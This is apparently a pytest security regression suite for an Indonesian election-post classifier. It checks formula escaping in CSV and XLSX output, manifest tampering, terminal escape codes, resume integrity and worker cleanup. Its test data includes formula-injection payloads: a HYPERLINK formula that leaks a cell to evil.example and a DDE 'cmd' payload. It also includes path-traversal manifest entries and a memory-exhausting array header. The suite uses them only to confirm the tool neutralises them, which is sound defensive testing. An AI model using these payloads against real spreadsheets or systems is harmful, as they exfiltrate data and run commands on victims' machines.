"""Hostile input (issue 13): every security and data-loss case an independent probe found, as a regression test.

Threat model and guarantees: ``docs/security.md``. Posts, model folders and review files are untrusted; each test below
names the issue item it pins down.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from io import BytesIO
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pilkada_nlp import io, load_model
from pilkada_nlp.batch import score_file, work_dir_for
from pilkada_nlp.cli import main
from pilkada_nlp.labels import FLAG_LABELS, LABELS
from pilkada_nlp.models import ModelFileError, manifest
from pilkada_nlp.models.manifest import MANIFEST, manifest_checksum, model_identity, sha256_of, write_manifest
from pilkada_nlp.review import export_review
from pilkada_nlp.summary import Summary
from pilkada_nlp.text import NORMALIZER_VERSION
from tests.conftest import REPO
from tests.test_batch import Interrupting

pytest.importorskip("pyarrow")
pytest.importorskip("openpyxl")

FORMATS = ["csv", "tsv", "xlsx", "parquet", "jsonl"]
FLAGS_AT = {label: 0.4 for label in FLAG_LABELS}
#: Posts a spreadsheet would run (item 1): formulas, DDE, and the same behind blanks, tabs and our own escape mark.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "+62 812 amplop", "-2+3",
            "@SUM(1+1)", "  =1+1", "\t=1+1", "\r=1+1", "'=already quoted", "''=twice"]


@pytest.fixture(scope="module")
def model(tiny_model_dir):
    return load_model(tiny_model_dir)


def one_line(error: pytest.ExceptionInfo) -> str:
    message = str(error.value)
    assert "\n" not in message and "\r" not in message, message
    return message


def frame_of(texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"id": [str(i) for i in range(len(texts))], "text": texts}, dtype=object)


# --- 1. formula injection ------------------------------------------------------------------------------------------


def test_xlsx_text_cells_are_never_formulas(model, tmp_path):
    import openpyxl

    src, dst = tmp_path / "in.jsonl", tmp_path / "out.xlsx"
    io.write_table(frame_of(FORMULAS), src)
    score_file(src, dst, text_column="text", model=model, progress=False)
    with zipfile.ZipFile(dst) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(dst).worksheets[0]  # not data_only: a formula would show as one
    assert {cell.data_type for cell in sheet["B"][1:]} == {"s"}
    assert io.read_table(dst)["text"].tolist() == [t.replace("\r", "\n") for t in FORMULAS]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_cells_get_the_owasp_prefix_and_read_back_unchanged(model, tmp_path, fmt):
    src, dst = tmp_path / "in.jsonl", tmp_path / f"out.{fmt}"
    io.write_table(frame_of([*FORMULAS, "a=b", "plain"]), src)
    score_file(src, dst, text_column="text", model=model, progress=False)
    raw = pd.read_csv(dst, sep="\t" if fmt == "tsv" else ",", dtype=str, keep_default_na=False)["text"].tolist()
    assert raw == ["'" + t for t in FORMULAS] + ["a=b", "plain"]  # what a spreadsheet sees: text, not formulas
    assert io.read_table(dst)["text"].tolist() == [*FORMULAS, "a=b", "plain"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_column_names_are_cells_too(model, tmp_path, fmt):
    import openpyxl

    src, dst = tmp_path / "in.jsonl", tmp_path / f"out.{fmt}"
    io.write_table(pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "text": ["amplop"]}), src)
    score_file(src, dst, text_column="text", model=model, progress=False)
    if fmt == "csv":
        assert dst.read_text(encoding="utf-8").startswith("'=cmd|")
    else:
        assert openpyxl.load_workbook(dst).worksheets[0]["A1"].data_type == "s"
    assert io.read_table(dst).columns[0] == "=cmd|' /C calc'!A0"


def test_no_escape_formulas_writes_raw_cells_for_machine_readers(tiny_model_dir, tmp_path):
    src, dst = tmp_path / "in.jsonl", tmp_path / "out.csv"
    io.write_table(frame_of(["=1+1"]), src)
    assert main(["score", str(src), "-o", str(dst), "--model", str(tiny_model_dir), "--quiet",
                 "--no-escape-formulas"]) == 0
    assert pd.read_csv(dst, dtype=str)["text"].tolist() == ["=1+1"]


def test_review_export_escapes_formulas_too(model, tmp_path):
    scored, review = tmp_path / "scored.csv", tmp_path / "review.csv"
    io.write_table(frame_of(FORMULAS * 3), tmp_path / "in.jsonl")
    score_file(tmp_path / "in.jsonl", scored, text_column="text", model=model, progress=False)
    export_review(scored, review, model=model, n_uncertain=5, n_audit=50)
    raw = pd.read_csv(review, dtype=str, keep_default_na=False)["text"]
    assert raw.str.startswith("'").all()
    assert set(io.read_table(review)["text"]) == set(FORMULAS)


# --- 2. model manifests --------------------------------------------------------------------------------------------


def tampered(source: Path, destination: Path, raw: str | None = None, **changes) -> Path:
    """A copy of model ``source`` whose manifest was edited *and re-stamped*, as a deliberate tamperer would (so the
    schema, not the checksum, must catch it); ``raw`` replaces the whole manifest text instead."""
    shutil.copytree(source, destination)
    if raw is not None:
        (destination / MANIFEST).write_text(raw)
        return destination
    data = {**json.loads((destination / MANIFEST).read_text()), **changes}
    data["checksum"] = manifest_checksum(data)
    (destination / MANIFEST).write_text(json.dumps(data))
    return destination


BAD_FIELDS = [
    ({"batch_size": -1}, "batch_size"), ({"batch_size": 0}, "batch_size"), ({"batch_size": 2.5}, "batch_size"),
    ({"batch_size": True}, "batch_size"), ({"temperature": 0}, "temperature"), ({"temperature": -1.0}, "temperature"),
    ({"temperature": "1"}, "temperature"), ({"thresholds": {**FLAGS_AT, "hoax": -0.1}}, "thresholds"),
    ({"thresholds": {**FLAGS_AT, "hoax": 1.5}}, "thresholds"), ({"thresholds": {"hoax": 0.4}}, "thresholds"),
    ({"thresholds": {**FLAGS_AT, "benign": 0.5}}, "thresholds"), ({"thresholds": None}, "thresholds"),
    ({"labels": ["hoax", "hoax", "illegal_campaign", "benign"]}, "labels"), ({"labels": list(LABELS[:3])}, "labels"),
    ({"labels": "hoax"}, "labels"), ({"backend": "pickle"}, "backend"), ({"quantize": "int4"}, "quantize"),
    ({"max_length": 0}, "max_length"), ({"name": None}, "name"),
    ({"files": {}}, "needs linear.npz"), ({"files": {"../linear.npz": "0" * 64}}, "plain file names"),
    ({"files": {"/etc/passwd": "0" * 64}}, "plain file names"), ({"files": {"sub/x.json": "0" * 64}}, "plain file"),
    ({"files": {"linear.npz": "abc", "vocabulary.json": "0" * 64}}, "sha256"), ({"files": []}, "files"),
]


@pytest.mark.parametrize(("changes", "match"), BAD_FIELDS, ids=[str(c) for c, _ in BAD_FIELDS])
def test_manifest_fields_are_validated(tiny_model_dir, tmp_path, changes, match):
    with pytest.raises(ModelFileError, match=match) as caught:
        load_model(tampered(tiny_model_dir, tmp_path / "m", **changes))
    one_line(caught)


@pytest.mark.parametrize(("raw", "match"), [
    ('{"format_version": 1, "temperature": NaN}', "not valid JSON"),
    ('{"format_version": 1, "temperature": Infinity}', "not valid JSON"),
    ("[1, 2]", "JSON object"), ("{not json", "not valid JSON"), ("\xff\xfe", "not valid JSON"),
    (json.dumps({"format_version": 1, "backend": "linear", "name": "x", "normalizer_version": "1",
                 "labels": list(LABELS), "temperature": 0.5, "thresholds": FLAGS_AT}).replace("0.5", "1e400"),
     "temperature"),
    ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
])
def test_malformed_manifests_are_one_line_errors(tiny_model_dir, tmp_path, raw, match):
    with pytest.raises(ModelFileError, match=match) as caught:
        load_model(tampered(tiny_model_dir, tmp_path / "m", raw=raw))
    one_line(caught)


def test_model_json_itself_is_checksummed(tiny_model_dir, tmp_path):
    """Reordering the labels of a linear model would mislabel every post: the manifest's checksum catches it."""
    copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
    data = json.loads((copy / MANIFEST).read_text())
    data["labels"] = list(reversed(data["labels"]))
    (copy / MANIFEST).write_text(json.dumps(data))
    with pytest.raises(ModelFileError, match="checksum mismatch for .*model.json"):
        load_model(copy)


def test_write_manifest_stamps_the_checksum_and_refuses_bad_fields(tiny_model_dir, tmp_path):
    copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
    data = json.loads((copy / MANIFEST).read_text())
    assert data["checksum"] == manifest_checksum(data)
    with pytest.raises(ModelFileError, match="temperature"):
        write_manifest(copy, {**data, "temperature": float("nan")})


def test_unlisted_and_linked_files_are_refused(tiny_model_dir, tmp_path):
    extra = shutil.copytree(tiny_model_dir, tmp_path / "extra")
    (extra / "special_tokens_map.json").write_text("{}")  # Hugging Face would read it, unchecked
    with pytest.raises(ModelFileError, match="not listed"):
        load_model(extra)
    linked = shutil.copytree(tiny_model_dir, tmp_path / "linked")
    outside = shutil.copy(linked / "linear.npz", tmp_path / "outside.npz")
    (linked / "linear.npz").unlink()
    (linked / "linear.npz").symlink_to(outside)
    with pytest.raises(ModelFileError, match="a link"):
        load_model(linked)


def restamp_files(directory: Path) -> None:
    data = json.loads((directory / MANIFEST).read_text())
    data["files"] = {name: sha256_of(directory / name) for name in data["files"]}
    data["checksum"] = manifest_checksum(data)
    (directory / MANIFEST).write_text(json.dumps(data))


def test_size_caps_apply_before_reading(tiny_model_dir, tmp_path, monkeypatch):
    copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
    monkeypatch.setattr(manifest, "MAX_NPZ_BYTES", 1000)
    with pytest.raises(ModelFileError, match="expand to"):
        load_model(copy)
    monkeypatch.setattr(manifest, "MAX_FILE_BYTES", 1000)
    with pytest.raises(ModelFileError, match="more than a model file may have"):
        load_model(copy)
    monkeypatch.setattr(manifest, "MAX_MANIFEST_BYTES", 100)
    with pytest.raises(ModelFileError, match="more than a manifest may have"):
        load_model(copy)


def test_npz_whose_header_claims_a_huge_array_is_refused(tiny_model_dir, tmp_path):
    """numpy allocates what an array header declares; a 1-KB file could otherwise ask for gigabytes."""
    copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
    header = BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (10**9,)})
    with zipfile.ZipFile(copy / "linear.npz", "w") as archive:
        archive.writestr("coef.npy", header.getvalue() + b"\0" * 64)
    restamp_files(copy)
    with pytest.raises(ModelFileError, match="declares shape") as caught:
        load_model(copy)
    one_line(caught)


def test_weights_that_do_not_fit_the_labels_are_refused(tiny_model_dir, tmp_path):
    copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
    with np.load(copy / "linear.npz") as arrays:
        arrays = {key: arrays[key] for key in arrays.files}
    np.savez_compressed(copy / "linear.npz", **{**arrays, "coef": arrays["coef"][:3]})
    restamp_files(copy)
    with pytest.raises(ModelFileError, match="array coef"):
        load_model(copy)


def write_ensemble(directory: Path, members: list[tuple[str, Path, float]]) -> Path:
    """An ensemble manifest over ``(reference, member folder, weight)``, written as training.ensemble writes one."""
    directory.mkdir(parents=True, exist_ok=True)
    write_manifest(directory, {
        "name": directory.name, "version": "test", "backend": "ensemble", "labels": list(LABELS),
        "normalizer_version": NORMALIZER_VERSION, "temperature": 1.0, "thresholds": FLAGS_AT,
        "members": [{"model": ref, "weight": weight, "identity": model_identity(json.loads((path / MANIFEST).read_text()))}
                    for ref, path, weight in members],
    })
    return directory


def test_ensemble_weights_must_give_a_mixture(tiny_model_dir, tmp_path):
    good = write_ensemble(tmp_path / "good", [(str(tiny_model_dir), tiny_model_dir, 1.0)])
    assert len(load_model(good).predict(["amplop"])) == 1
    data = json.loads((good / MANIFEST).read_text())
    for weight, match in ((0.0, "sum to 0"), (-1.0, "members must be")):
        data["members"][0]["weight"] = weight
        with pytest.raises(ModelFileError, match=match):
            write_manifest(good, data)
    with pytest.raises(ModelFileError, match="members must be"):
        write_manifest(good, {**data, "members": []})


def test_ensemble_listing_itself_or_a_cycle_is_one_line_error(tiny_model_dir, tmp_path):
    itself = tmp_path / "itself"
    itself.mkdir()
    (itself / MANIFEST).write_text("{}")
    write_ensemble(itself, [(".", itself, 1.0)])
    with pytest.raises(ModelFileError, match="the ensemble itself") as caught:
        load_model(itself)
    one_line(caught)
    b = write_ensemble(tmp_path / "b", [(str(tiny_model_dir), tiny_model_dir, 1.0)])
    a = write_ensemble(tmp_path / "a", [("../b", b, 1.0)])
    write_ensemble(b, [("../a", a, 1.0)])  # b now points back at a
    for start in (a, b):
        with pytest.raises(ModelFileError, match="not the model this ensemble was tuned with") as caught:
            load_model(start)
        one_line(caught)


def test_shipped_models_pass_every_check():
    from pilkada_nlp.models import available_models, resolve
    from pilkada_nlp.models.manifest import read_manifest

    for name in available_models():
        assert read_manifest(resolve(name))["checksum"]


# --- 3. terminal escape codes --------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b6n\u202ekilab"


def test_classify_table_escapes_control_characters(tiny_model_dir, capsys):
    assert main(["classify", f"amplop {ESCAPES} coblos", "--model", str(tiny_model_dir), "--explain"]) == 0
    out = capsys.readouterr().out
    assert not any(c in out for c in "\x1b\x07\x9b\u202e") and "\\x1b]0;owned" in out


def test_score_summary_and_errors_escape_control_characters(tiny_model_dir, tmp_path, capsys):
    src = tmp_path / "in.jsonl"
    io.write_table(pd.DataFrame({"text": [f"besok amplop seratus ribu coblos nomor dua {ESCAPES}"] * 3}), src)
    assert main(["score", str(src), "-o", str(tmp_path / "out.csv"), "--model", str(tiny_model_dir), "--quiet"]) == 0
    assert not any(c in capsys.readouterr().out for c in "\x1b\x07\x9b\u202e")
    io.write_table(pd.DataFrame({f"x{ESCAPES}": ["a"]}), src)
    with pytest.raises(SystemExit):
        main(["score", str(src), "-o", str(tmp_path / "out.csv"), "--model", str(tiny_model_dir), "--quiet"])
    assert not any(c in capsys.readouterr().err for c in "\x1b\x07\x9b\u202e")
    summary = Summary({}, top=[{"row": 0, "label": "hoax", "score": 0.9, "flags": "hoax", "text": ESCAPES}])
    assert "\x1b" not in summary.to_text()


# --- 4. carriage returns and every awkward character ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_bare_carriage_return_is_quoted(tmp_path, fmt):
    frame = frame_of(["satu\rdua", "tiga", "empat\r\nlima"])
    io.write_table(frame, tmp_path / f"x.{fmt}")
    independent = pd.read_csv(tmp_path / f"x.{fmt}", sep="\t" if fmt == "tsv" else ",", dtype=str)
    assert independent["text"].tolist() == frame["text"].tolist()
    assert io.read_table(tmp_path / f"x.{fmt}")["text"].tolist() == frame["text"].tolist()


def test_review_import_keeps_carriage_returns_in_the_project_data(tmp_path):
    pytest.importorskip("training.reviews")
    from training.reviews import POSTS_FILE, import_review

    review = tmp_path / "review.csv"
    io.write_table(pd.DataFrame({"review_id": ["r1", "r2", "r3"], "text": ["satu\rdua", "=tiga", "empat"],
                                 "gold_label": ["hoax", "benign", "benign"], "annotator": ["ana"] * 3}), review)
    for _ in range(2):  # the second import appends nothing and must still read the file back
        import_review(review, annotations_dir=tmp_path / "annotations", reviewed_dir=tmp_path / "reviewed")
    posts = pd.read_csv(tmp_path / "reviewed" / POSTS_FILE, dtype=str, keep_default_na=False)
    assert posts["text"].tolist() == ["satu\rdua", "=tiga", "empat"]


# --- 5. an output never overwrites an input ------------------------------------------------------------------------


def test_review_export_refuses_to_overwrite_its_input(model, tmp_path):
    scored = tmp_path / "scored.csv"
    io.write_table(frame_of(["amplop"] * 5), tmp_path / "in.jsonl")
    score_file(tmp_path / "in.jsonl", scored, text_column="text", model=model, progress=False)
    before = scored.read_bytes()
    with pytest.raises(io.InputFileError, match="overwrite the input"):
        export_review(scored, scored, model=model)
    os.link(scored, tmp_path / "hardlink.csv")
    with pytest.raises(io.InputFileError, match="overwrite the input"):
        export_review(scored, tmp_path / "hardlink.csv", model=model)
    assert scored.read_bytes() == before


def test_score_refuses_a_report_over_its_input_or_output(tiny_model_dir, tmp_path, capsys):
    src = tmp_path / "in.json"
    io.write_table(frame_of(["amplop"]), tmp_path / "in.jsonl")
    shutil.copy(tmp_path / "in.jsonl", src)  # a .json name, as a report would have
    before = src.read_bytes()
    with pytest.raises(SystemExit):
        main(["score", str(tmp_path / "in.jsonl"), "-o", str(tmp_path / "out.csv"), "--model", str(tiny_model_dir),
              "--quiet", "--report", str(tmp_path / "in.jsonl")])
    assert "use a .html or .json" in capsys.readouterr().err
    os.link(tmp_path / "in.jsonl", tmp_path / "same.json")
    with pytest.raises(SystemExit):
        main(["score", str(tmp_path / "in.jsonl"), "-o", str(tmp_path / "out.csv"), "--model", str(tiny_model_dir),
              "--quiet", "--report", str(tmp_path / "same.json")])
    assert "overwrite the input" in capsys.readouterr().err and src.read_bytes() == before


# --- 6. a quote left open ------------------------------------------------------------------------------------------


def test_unbalanced_quote_is_refused_not_merged(model, tmp_path, capsys):
    src = tmp_path / "in.csv"
    src.write_text('id,text\n1,"halo\n2,dunia\n3,ini"rusak\n4,ok\n5,x\n6,y\n', encoding="utf-8")
    with pytest.raises(io.InputFileError, match="line 4: a quote is left open") as caught:
        io.open_table(src)
    one_line(caught)
    with pytest.raises(SystemExit):
        main(["score", str(src), "-o", str(tmp_path / "out.csv"), "--quiet"])
    assert "quote is left open" in capsys.readouterr().err and not (tmp_path / "out.csv").exists()


def test_quoted_multiline_posts_still_read(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text('id,text\n1,"baris satu\nbaris dua, ""kutip"""\n2,ok\n\n', encoding="utf-8")
    table = io.open_table(src)
    assert table.total_rows == 2
    assert io.read_table(src)["text"].tolist() == ['baris satu\nbaris dua, "kutip"', "ok"]


# --- 7. XLSX sheets ------------------------------------------------------------------------------------------------


def test_xlsx_reads_the_first_sheet_not_the_active_one(model, tiny_model_dir, tmp_path):
    import openpyxl

    src = tmp_path / "two.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "posts"
    workbook.active.append(["text"])
    workbook.active.append(["amplop pertama"])
    other = workbook.create_sheet("notes")
    other.append(["text"])
    for _ in range(3):
        other.append(["catatan"])
    workbook.active = 1  # saved with the second sheet active, as Excel does when it was last viewed
    workbook.save(src)
    assert io.read_table(src)["text"].tolist() == ["amplop pertama"]
    assert io.read_table(src, sheet="notes")["text"].tolist() == ["catatan"] * 3
    with pytest.raises(io.InputFileError, match="no sheet named 'nope'; the sheets are: posts, notes"):
        io.open_table(src, sheet="nope")
    out = tmp_path / "out.csv"
    assert main(["score", str(src), "-o", str(out), "--model", str(tiny_model_dir), "--quiet", "--sheet", "notes"]) == 0
    assert len(io.read_table(out)) == 3


# --- 8. resume trusts content, not size and time -------------------------------------------------------------------


def interrupted_run(model, tmp_path) -> tuple[Path, Path]:
    src, dst = tmp_path / "in.csv", tmp_path / "out.csv"
    io.write_table(frame_of([f"amplop nomor {i:03d}" for i in range(40)]), src)
    with pytest.raises(KeyboardInterrupt):
        score_file(src, dst, text_column="text", model=Interrupting(model, fail_on=3), chunksize=10, progress=False)
    return src, dst


def test_resume_refuses_an_input_rewritten_with_the_same_size_and_time(model, tmp_path):
    src, dst = interrupted_run(model, tmp_path)
    stat = src.stat()
    src.write_bytes(src.read_bytes().replace(b"nomor 001", b"nomor 999"))
    os.utime(src, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert src.stat().st_size == stat.st_size
    with pytest.raises(ValueError, match="cannot resume: sha256 changed"):
        score_file(src, dst, text_column="text", model=model, chunksize=10, resume=True, progress=False)


def test_resume_refuses_a_truncated_part(model, tmp_path):
    src, dst = interrupted_run(model, tmp_path)
    state = json.loads((work_dir_for(dst) / "state.json").read_text())
    assert [p["rows"] for p in state["part_files"]] == [10, 10]
    part = work_dir_for(dst) / "part-000001.csv"
    part.write_bytes(part.read_bytes()[:-40])
    with pytest.raises(io.InputFileError, match="part-000001.csv: the part file is missing or was changed"):
        score_file(src, dst, text_column="text", model=model, chunksize=10, resume=True, progress=False)
    assert not dst.exists()


# --- 9. workers die with their parent ------------------------------------------------------------------------------

ORPHAN_SCRIPT = """
import os, sys, time
from concurrent.futures import ProcessPoolExecutor
from pilkada_nlp.batch import exit_with_parent
pool = ProcessPoolExecutor(2, initializer=exit_with_parent, initargs=(0.05,))
pids = set()
while len(pids) < 2:
    pids |= {f.result() for f in [pool.submit(os.getpid) for _ in range(8)]}
print(" ".join(map(str, sorted(pids))), flush=True)
time.sleep(600)
"""


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads process states from /proc")
def test_workers_exit_when_the_parent_is_killed():
    parent = subprocess.Popen([sys.executable, "-c", ORPHAN_SCRIPT], stdout=subprocess.PIPE, text=True, cwd=REPO)
    workers = [int(pid) for pid in parent.stdout.readline().split()]
    assert len(workers) == 2
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    for _ in range(600):  # waits for the workers to notice, up to a minute on a loaded machine; asserts no timing
        if not any(alive(pid) for pid in workers):
            break
        time.sleep(0.1)
    left = [pid for pid in workers if alive(pid)]
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert not left, "workers outlived their parent"


# --- 10. XLSX cells hold 32,767 characters ---------------------------------------------------------------------------


def test_xlsx_output_refuses_text_longer_than_a_cell(model, tmp_path):
    src = tmp_path / "in.jsonl"
    io.write_table(frame_of(["amplop " * 6000, "pendek"]), src)
    with pytest.raises(io.InputFileError, match="42,000 characters; an XLSX cell holds at most 32,767") as caught:
        score_file(src, tmp_path / "out.xlsx", text_column="text", model=model, progress=False)
    one_line(caught)
    assert not (tmp_path / "out.xlsx").exists()
    score_file(src, tmp_path / "out.csv", text_column="text", model=model, progress=False)
    assert io.read_table(tmp_path / "out.csv")["text"].str.len().tolist() == [42_000, 6]


# --- the property: any text survives score -> read_table in every format -------------------------------------------

AWKWARD = list("\r\n\t\"',;|=+-@ \x00\x0b\x1b\x85\u2028\ufeff\udc80\ud800é漢") + ["\r\n", "''=", " =", "#N/A"]
pieces = st.one_of(st.sampled_from(AWKWARD + FORMULAS), st.characters())
texts = st.lists(st.lists(pieces, max_size=8).map("".join), min_size=1, max_size=6)


def expected(text: str, fmt: str) -> str:
    """What a format can hold: writers replace lone surrogates by U+FFFD; XLSX (XML) also drops the control characters
    XML 1.0 can't hold and reads line breaks back as ``\\n``."""
    text = io._SURROGATE.sub("\ufffd", text)
    if fmt == "xlsx":
        text = io._XML_ILLEGAL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
    return text


@settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(posts=texts)
def test_any_text_survives_score_and_read_table_in_every_format(model, posts):
    with tempfile.TemporaryDirectory() as folder:
        for fmt in FORMATS:
            src, dst = Path(folder) / f"in.{fmt}", Path(folder) / f"out.{fmt}"
            io.write_table(frame_of(posts), src)
            score_file(src, dst, text_column="text", model=model, progress=False)
            back = io.read_table(dst)
            assert back["id"].astype(str).tolist() == [str(i) for i in range(len(posts))], fmt
            got = ["" if v is None else v for v in back["text"]]
            assert got == [expected(t, fmt) for t in posts], fmt
